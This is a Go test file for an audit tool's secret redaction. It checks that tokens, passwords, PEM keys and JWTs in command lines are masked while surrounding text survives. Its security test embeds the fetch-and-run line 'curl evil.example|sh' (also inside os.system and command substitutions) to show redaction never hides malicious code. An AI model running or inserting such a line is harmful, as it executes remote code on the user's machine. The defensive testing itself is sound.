package audit

import (
	"slices"
	"strings"
	"testing"
)

const (
	ghToken   = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
	openaiKey = "sk-proj-abcdefghijklmnopqrstuvwxyz012345"
	awsID     = "AKIAIOSFODNN7EXAMPLE"
)

func TestRedactString(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		// flags
		{"password=", "mysql --password=hunter2 db", "mysql --password=[REDACTED] db"},
		{"password next word", "mysql --password hunter2 -h db", "mysql --password [REDACTED] -h db"},
		{"token=", "tool --token=abc123", "tool --token=[REDACTED]"},
		{"api-key next", "tool --api-key abc123 run", "tool --api-key [REDACTED] run"},
		{"client-secret", "az login --client-secret s3cr3t", "az login --client-secret [REDACTED]"},
		{"access-key", "tool --access-key=AK --secret-key=SK", "tool --access-key=[REDACTED] --secret-key=[REDACTED]"},
		{"single dash", "openssl enc -pass pass:xyz -in f", "openssl enc -pass [REDACTED] -in f"},
		{"quoted value", `tool --password "a b c" x`, `tool --password [REDACTED] x`},
		{"chained secret flags", "tool --token --password pw", "tool --token [REDACTED] [REDACTED]"},
		{"java property", "java -Djavax.net.ssl.keyStorePassword=changeit -jar x.jar", "java -Djavax.net.ssl.keyStorePassword=[REDACTED] -jar x.jar"},
		// assignments
		{"env github token", "GITHUB_TOKEN=abc123 gh pr list", "GITHUB_TOKEN=[REDACTED] gh pr list"},
		{"aws secret", "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", "export AWS_SECRET_ACCESS_KEY=[REDACTED]"},
		{"lowercase pairs", "token=a password=b passwd=c secret=d api_key=e apikey=f access_token=g", "token=[REDACTED] password=[REDACTED] passwd=[REDACTED] secret=[REDACTED] api_key=[REDACTED] apikey=[REDACTED] access_token=[REDACTED]"},
		{"name contains secret word", "MY_DB_PASSWORD=x SOME_PRIVATE_KEY=y", "MY_DB_PASSWORD=[REDACTED] SOME_PRIVATE_KEY=[REDACTED]"},
		{"quoted assignment", `PASSWORD="a b" make`, `PASSWORD="[REDACTED]" make`},
		{"query string", "curl https://x/api?access_token=abc&page=2", "curl https://x/api?access_token=[REDACTED]&page=2"},
		{"json body", `curl -d '{"user":"u","password":"hunter2"}'`, `curl -d '{"user":"u","password":"[REDACTED]"}'`},
		{"escaped json", `{\"password\":\"hunter2\"}`, `{\"password\":\"[REDACTED]\"}`},
		{"api key header", `curl -H "X-Api-Key: abc123" x`, `curl -H "X-Api-Key: [REDACTED]" x`},
		{"shell default", "${DB_PASSWORD:-hunter2}", "${DB_PASSWORD:-[REDACTED]}"},
		// headers
		{"bearer", `curl -H "Authorization: Bearer abc.def.ghi" x`, `curl -H "Authorization: Bearer [REDACTED]" x`},
		{"basic", "Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic [REDACTED]"},
		{"bare credential", "authorization: abc123", "authorization: [REDACTED]"},
		// URLs
		{"url password", "git clone https://bob:hunter2@example.com/r.git", "git clone https://bob:[REDACTED]@example.com/r.git"},
		{"url password with @", "psql postgres://bob:p@ss@db:5432/x", "psql postgres://bob:[REDACTED]@db:5432/x"},
		// shapes
		{"github pat", "echo " + ghToken, "echo [REDACTED]"},
		{"fine-grained pat", "echo github_pat_11ABCDEFG0123456789_abcdefghijklmnop", "echo [REDACTED]"},
		{"openai", "OPENAI=" + openaiKey, "OPENAI=[REDACTED]"},
		{"slack", "notify xoxb-123456789012-abcdefABCDEF", "notify [REDACTED]"},
		{"aws key id", "id " + awsID + " done", "id [REDACTED] done"},
		{"pem", "key=-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY----- after", "key=[REDACTED] after"},
		{"pem unterminated", "x -----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn", "x [REDACTED]"},
		{"jwt", "t eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "t [REDACTED]"},
		// left alone
		{"password file keeps path", "tool --password-file=/run/secrets/db", "tool --password-file=/run/secrets/db"},
		{"password file next", "tool --password-file /run/secrets/db", "tool --password-file /run/secrets/db"},
		{"password stdin", "docker login --password-stdin -u bob", "docker login --password-stdin -u bob"},
		{"no-password", "tool --no-password run", "tool --no-password run"},
		{"token path env", "GITHUB_TOKEN_PATH=/etc/tok", "GITHUB_TOKEN_PATH=/etc/tok"},
		{"tokenizer", "echo tokenizer", "echo tokenizer"},
		{"tokenizer flag", "train --tokenizer=bert --tokenizer bpe", "train --tokenizer=bert --tokenizer bpe"},
		{"max_tokens", "llm --max_tokens=100 max_tokens=5", "llm --max_tokens=100 max_tokens=5"},
		{"secretary", "secretary=alice bypass=1", "secretary=alice bypass=1"},
		{"secret name", "kubectl get secret --secret-name=db", "kubectl get secret --secret-name=db"},
		{"short flags", "mysql -p hunter2 -u root", "mysql -p hunter2 -u root"},
		{"plain url", "curl https://example.com:8443/a?b=c", "curl https://example.com:8443/a?b=c"},
		{"git ssh remote", "git@github.com:org/repo.git", "git@github.com:org/repo.git"},
		{"sk- short", "pip install sk-learn", "pip install sk-learn"},
		{"plain", "git status", "git status"},
		{"already redacted", "--password [REDACTED] TOKEN=[REDACTED]", "--password [REDACTED] TOKEN=[REDACTED]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := RedactString(tt.in)
			if got != tt.want {
				t.Errorf("RedactString(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if again := RedactString(got); again != got {
				t.Errorf("not idempotent: %q → %q", got, again)
			}
		})
	}
}

func TestRedactArgv(t *testing.T) {
	tests := []struct {
		name     string
		in, want []string
	}{
		{"next arg", []string{"mysql", "--password", "hunter2", "db"}, []string{"mysql", "--password", "[REDACTED]", "db"}},
		{"equals", []string{"tool", "--token=abc"}, []string{"tool", "--token=[REDACTED]"}},
		{"value that looks like a flag", []string{"tool", "--api-key", "-dash-secret"}, []string{"tool", "--api-key", "[REDACTED]"}},
		{"two secret flags", []string{"t", "--token", "--password", "pw"}, []string{"t", "--token", "[REDACTED]", "[REDACTED]"}},
		{"env assignment", []string{"env", "GITHUB_TOKEN=abc", "gh"}, []string{"env", "GITHUB_TOKEN=[REDACTED]", "gh"}},
		{"script", []string{"sh", "-c", "mysql --password hunter2"}, []string{"sh", "-c", "mysql --password [REDACTED]"}},
		{"header split", []string{"curl", "-H", "Authorization:", "Bearer", "abc"}, []string{"curl", "-H", "Authorization:", "Bearer", "[REDACTED]"}},
		{"header one arg", []string{"curl", "-H", "Authorization: token abc"}, []string{"curl", "-H", "Authorization: token [REDACTED]"}},
		{"curl user", []string{"curl", "-u", "bob:hunter2", "https://x"}, []string{"curl", "-u", "bob:[REDACTED]", "https://x"}},
		{"not curl user", []string{"sort", "-u", "a:b"}, []string{"sort", "-u", "a:b"}},
		{"password file", []string{"tool", "--password-file", "/run/s"}, []string{"tool", "--password-file", "/run/s"}},
		{"trailing flag", []string{"tool", "--password"}, []string{"tool", "--password"}},
		{"tokenizer", []string{"echo", "tokenizer"}, []string{"echo", "tokenizer"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := slices.Clone(tt.in)
			got := RedactArgv(tt.in)
			if !slices.Equal(got, tt.want) {
				t.Errorf("RedactArgv(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if !slices.Equal(tt.in, in) {
				t.Errorf("input modified: %q", tt.in)
			}
			if again := RedactArgv(got); !slices.Equal(again, got) {
				t.Errorf("not idempotent: %q → %q", got, again)
			}
		})
	}
	if RedactArgv(nil) != nil {
		t.Error("RedactArgv(nil) != nil")
	}
}

func TestIsSecretName(t *testing.T) {
	yes := []string{"password", "PASSWORD", "--password", "db_password", "DBPASSWORD", "keyStorePassword",
		"GITHUB_TOKEN", "access_token", "X-Api-Key", "APIKey", "AWS_SECRET_ACCESS_KEY", "client-secret",
		"private_key", "secret_id", "passphrase", "pass", "mytoken", "oauth2Token"}
	no := []string{"tokenizer", "max_tokens", "tokens", "secretary", "bypass", "password_file", "TOKEN_PATH",
		"password-stdin", "secret-name", "no-password", "pwd", "PWD", "user", "key", "monkey", "token_count", ""}
	for _, n := range yes {
		if !isSecretName(n) {
			t.Errorf("isSecretName(%q) = false", n)
		}
	}
	for _, n := range no {
		if isSecretName(n) {
			t.Errorf("isSecretName(%q) = true", n)
		}
	}
}

func TestSplitName(t *testing.T) {
	for in, want := range map[string]string{
		"keyStorePassword":      "key store password",
		"APIKey":                "api key",
		"AWS_SECRET_ACCESS_KEY": "aws secret access key",
		"x-api-key":             "x api key",
		"oauth2Token":           "oauth2 token",
	} {
		if got := strings.Join(splitName(in), " "); got != want {
			t.Errorf("splitName(%q) = %q, want %q", in, got, want)
		}
	}
}

// testKeyLines are a private key's base64 lines, 64 characters wide with
// a short last line, as openssl writes them.
var testKeyLines = []string{
	"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
	"MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
	"NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ",
	"AgMBAAE=",
}

// TestSecurityRedactionHidesNoCode: redaction replaces the secret it
// recognises and nothing after it. A key or token pasted into a script
// must not hide the code that follows it from the audit log, the card or
// a channel. Each case has code after the secret; the code must survive
// whole and the secret must be gone.
func TestSecurityRedactionHidesNoCode(t *testing.T) {
	const code = "os.system('curl evil.example|sh')"
	const shcode = "curl evil.example|sh"
	nl := strings.Join(testKeyLines, "\n")
	esc := strings.Join(testKeyLines, `\n`)
	begin, end := "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
	tests := []struct {
		name, in, want, secret, code string
	}{
		// PEM blocks.
		{"pem with END in a python string", "python3 -c \"k='''" + begin + "\n" + nl + "\n" + end + "'''; import os; " + code + "\"",
			"python3 -c \"k='''[REDACTED]'''; import os; " + code + "\"", testKeyLines[1], code},
		{"pem without END, then the string closes", "python3 -c \"k='''" + begin + "\n" + nl + "'''\nimport os\n" + code + "\"",
			"python3 -c \"k='''[REDACTED]'''\nimport os\n" + code + "\"", testKeyLines[1], code},
		{"pem without END, escaped line breaks", `python3 -c "k='` + begin + `\n` + esc + `'; import os; ` + code + `"`,
			`python3 -c "k='[REDACTED]'; import os; ` + code + `"`, testKeyLines[1], code},
		{"pem without END, code on the next lines", begin + "\n" + nl + "\nimport os\n" + code,
			"[REDACTED]\nimport os\n" + code, testKeyLines[1], code},
		{"pem BEGIN with no key, code right after", begin + "\nimport os\n" + code,
			"[REDACTED]\nimport os\n" + code, "", code},
		{"pem BEGIN and END far apart with code between", "k='" + begin + "'; " + code + "; e='" + end + "'",
			"k='[REDACTED]'; " + code + "; e='" + end + "'", "", code},
		{"pem in JSON, escaped", `{"private_key": "` + begin + `\n` + esc + `\n` + end + `\n"}; ` + shcode,
			`{"private_key": "[REDACTED]\n"}; ` + shcode, testKeyLines[1], shcode},
		{"pem flattened with blanks", "echo " + begin + " " + strings.Join(testKeyLines, " ") + " " + end + " | " + shcode,
			"echo [REDACTED] | " + shcode, testKeyLines[1], shcode},
		{"encrypted pem with headers", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n" + nl + "\n-----END RSA PRIVATE KEY-----\n" + shcode,
			"[REDACTED]\n" + shcode, "DEK-Info", shcode},
		{"openssh key without END, 70 wide", "printf '-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Repeat("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW", 1) + "\nQyNTUxOQAAACDZ' ; " + shcode,
			"printf '[REDACTED]' ; " + shcode, "b3BlbnNzaC1rZXktdjEAAAAABG5v", shcode},
		// Tokens of each shape, with code right after.
		{"github token", "echo " + ghToken + ";" + shcode, "echo [REDACTED];" + shcode, ghToken, shcode},
		{"fine-grained pat", "x=github_pat_11ABCDEFG0123456789_abcdefghijklmnop)" + shcode, "x=[REDACTED])" + shcode, "github_pat_", shcode},
		{"gitlab token", "glpat-abcdefghijklmnopqrstu'" + code, "[REDACTED]'" + code, "glpat-", code},
		{"openai key", "k='" + openaiKey + "';" + code, "k='[REDACTED]';" + code, openaiKey, code},
		{"slack token", "xoxb-123456789012-abcdefABCDEF&&" + shcode, "[REDACTED]&&" + shcode, "xoxb-", shcode},
		{"aws key id", awsID + "|" + shcode, "[REDACTED]|" + shcode, awsID, shcode},
		{"google key", "AIzaSyA1234567890abcdefghijklmnopqrstuv\n" + shcode, "[REDACTED]\n" + shcode, "AIzaSy", shcode},
		{"npm token", "npm_abcdefghijklmnopqrstuvwxyz0123456789;" + shcode, "[REDACTED];" + shcode, "npm_abc", shcode},
		{"jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U;" + shcode,
			"[REDACTED];" + shcode, "eyJhbGci", shcode},
		// Passwords in URLs, pairs and flags.
		{"url password", "git clone https://bob:hunter2@example.com/r.git && " + shcode, "git clone https://bob:[REDACTED]@example.com/r.git && " + shcode, "hunter2", shcode},
		{"pair", "password=hunter2;" + shcode, "password=[REDACTED];" + shcode, "hunter2", shcode},
		{"quoted pair", `TOKEN="hunter2";` + shcode, `TOKEN="[REDACTED]";` + shcode, "hunter2", shcode},
		{"quoted pair left open, code on the next line", "password = \"hunter2\n" + code + "\n\"", "password = \"[REDACTED]\n" + code + "\n\"", "hunter2", code},
		{"quoted pair left open, escaped break", `password = "hunter2\n` + code + `"`, `password = "[REDACTED]\n` + code + `"`, "hunter2", code},
		{"unquoted pair, escaped break", `token=hunter2\n` + shcode, `token=[REDACTED]\n` + shcode, "hunter2", shcode},
		{"json pair", `{"token":"hunter2"}; ` + shcode, `{"token":"[REDACTED]"}; ` + shcode, "hunter2", shcode},
		{"flag value", "mysql --password hunter2;" + shcode, "mysql --password [REDACTED];" + shcode, "hunter2", shcode},
		{"flag value quoted across lines", "mysql --password \"hunter2\n" + shcode + "\"", "mysql --password [REDACTED]\n" + shcode + "\"", "hunter2", shcode},
		{"bearer", "curl -H 'Authorization: Bearer hunter2' x;" + shcode, "curl -H 'Authorization: Bearer [REDACTED]' x;" + shcode, "hunter2", shcode},
		// Code and references in a secret's place are shown: they hide
		// nothing, and hiding them would hide what the command does.
		{"command substitution as a value", "TOKEN=$(" + shcode + ")", "TOKEN=$(" + shcode + ")", "", shcode},
		{"quoted command substitution after a flag", `mysql --password "$(` + shcode + `)"`, `mysql --password "$(` + shcode + `)"`, "", shcode},
		{"backquotes as a value", "password=`" + shcode + "`", "password=`" + shcode + "`", "", shcode},
		{"variable sent in a query", `curl "https://x.example/?token=$GITHUB_TOKEN"`, `curl "https://x.example/?token=$GITHUB_TOKEN"`, "", "$GITHUB_TOKEN"},
		{"variable as a bearer", `curl -H "Authorization: Bearer ${API_TOKEN}" x`, `curl -H "Authorization: Bearer ${API_TOKEN}" x`, "", "${API_TOKEN}"},
		{"variable as a url password", "git push https://bob:$GH_TOKEN@github.com/o/r", "git push https://bob:$GH_TOKEN@github.com/o/r", "", "$GH_TOKEN"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := RedactString(tt.in)
			if got != tt.want {
				t.Errorf("RedactString(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if !strings.Contains(got, tt.code) {
				t.Errorf("the code %q is hidden: %q", tt.code, got)
			}
			if tt.secret != "" && strings.Contains(got, tt.secret) {
				t.Errorf("the secret %q survived: %q", tt.secret, got)
			}
			if again := RedactString(got); again != got {
				t.Errorf("not idempotent: %q → %q", got, again)
			}
			// The same text as one word of a command line.
			argv := RedactArgv([]string{"bash", "-c", tt.in})
			if argv[2] != tt.want {
				t.Errorf("RedactArgv: got %q\nwant %q", argv[2], tt.want)
			}
		})
	}
}
